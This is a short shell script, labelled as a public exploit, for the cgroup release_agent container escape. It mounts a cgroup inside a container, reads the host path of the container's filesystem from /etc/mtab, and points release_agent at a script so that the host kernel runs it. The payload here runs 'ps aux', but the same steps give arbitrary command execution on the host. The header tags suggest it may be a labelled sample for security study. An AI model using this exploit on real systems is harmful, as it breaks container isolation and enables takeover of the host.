# class: escape, release_agent; style: public exploit
mkdir /tmp/cg && mount -t cgroup -o rdma cgroup /tmp/cg && mkdir /tmp/cg/x
echo 1 > /tmp/cg/x/notify_on_release
host_path=$(sed -n 's/.*\bupperdir=\([^,]*\).*/\1/p' /etc/mtab)
echo "$host_path/cmd" > /tmp/cg/release_agent
printf '#!/bin/sh\nps aux > %s/output\n' "$host_path" > /cmd; chmod a+x /cmd
sh -c "echo \$\$ > /tmp/cg/x/cgroup.procs"
